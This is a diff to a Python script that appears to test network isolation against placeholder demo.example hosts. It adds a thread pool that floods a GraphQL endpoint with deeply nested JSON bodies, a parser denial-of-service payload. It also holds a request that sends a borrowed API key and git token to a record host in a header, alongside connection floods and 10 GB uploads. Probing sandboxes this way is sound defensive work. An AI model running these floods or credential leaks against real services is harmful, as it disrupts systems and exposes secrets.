@@ -5,6 +5,7 @@ know nothing of each other, but what `quiet` tells `loud` as somebody who is in 
 """
 
 import base64
+import contextlib
 import http.client
 import json
 import os
@@ -18,11 +19,12 @@ import sys
 import threading
 import time
 
-BULK, PLAIN, SINK = "bulk.demo.example", "plain.demo.example", "sink.demo.example"
+BULK, PLAIN, SINK = (f"{name}.demo.example" for name in ("bulk", "plain", "sink"))
 MODEL, GIT, RECORD = "api.anthropic.com", "git.demo.example", "record.demo.example"
 THEIRS = "known-to-the-quiet-one.example"
 CONNECTIONS = 10_000
 BUSY = 200
+JUDGES = 4
 SAMPLES = 15
 MIB = 1024 * 1024
 
@@ -130,6 +132,17 @@ def ten_thousand(held):
     return {"held": len(held), "refused": refused, "seconds": round(time.monotonic() - begun, 2)}
 
 
+def judged(until):
+    """Bodies that have to be parsed, over and over."""
+    body = b'{"query": "{users{id}}", "variables": {"a": [' + b"[]," * 300_000 + b"0]}}"
+    head = f"POST /graphql HTTP/1.1\r\nHost: {GIT}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
+    while not until.is_set():
+        with contextlib.suppress(OSError), socket.create_connection((GIT, 443), timeout=20) as raw:
+            with CONTEXT.wrap_socket(raw, server_hostname=GIT) as client:
+                client.sendall(head.encode() + body)
+                client.recv(65536)
+
+
 def busy(until):
     """Downloads, uploads and requests over many connections, as fast as they go."""
     address, picker = socket.gethostbyname(PLAIN), selectors.DefaultSelector()
@@ -221,10 +234,10 @@ def borrowed(key, token):
     body = json.dumps(
         {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": key}]}
     ).encode()
-    head = f"POST /v1/messages HTTP/1.1\r\nHost: {MODEL}\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
+    head = f"POST /v1/messages HTTP/1.1\r\nHost: {MODEL}\r\nConnection: close\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
     basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
-    push = f"GET /demo.git/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: {GIT}\r\nAuthorization: Basic {basic}\r\n\r\n"
-    note = f"GET /borrowed HTTP/1.1\r\nHost: {RECORD}\r\nX-Note: the key {key} and the token {token}\r\n\r\n"
+    push = f"GET /demo.git/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: {GIT}\r\nConnection: close\r\nAuthorization: Basic {basic}\r\n\r\n"
+    note = f"GET /borrowed HTTP/1.1\r\nHost: {RECORD}\r\nConnection: close\r\nX-Note: the key {key} and the token {token}\r\n\r\n"
     return {
         "borrowed_key": verdict(head.encode() + body, MODEL),
         "borrowed_token": verdict(push.encode(), GIT),
@@ -237,7 +250,7 @@ def loud():
     key, token, address = bytes.fromhex(gate.ask("wait", "alone")).decode().split()
     found = borrowed(key, token)
     found["borrowed_address"] = verdict(
-        f"GET / HTTP/1.1\r\nHost: {THEIRS}\r\n\r\n".encode(), address, port=80
+        f"GET / HTTP/1.1\r\nHost: {THEIRS}\r\nConnection: close\r\n\r\n".encode(), address, port=80
     )
     try:
         found["connections"] = ten_thousand(held)
@@ -247,15 +260,18 @@ def loud():
         for client in held.values():
             client.close()
     over = threading.Event()
-    flood = threading.Thread(target=lambda: found.update(busy=busy(over)))
-    flood.start()
+    floods = [threading.Thread(target=lambda: found.update(busy=busy(over)))]
+    floods += [threading.Thread(target=judged, args=(over,)) for _ in range(JUDGES)]
+    for flood in floods:
+        flood.start()
     try:
         time.sleep(2)
         gate.ask("signal", "busy")
         gate.ask("wait", "done")
     finally:
         over.set()
-        flood.join()
+        for flood in floods:
+            flood.join()
     found["ten_gigabytes_known"] = pour("Content-Length: 10000000000", chunked=False)
     found["ten_gigabytes_chunked"] = pour("Transfer-Encoding: chunked", chunked=True)
     return found
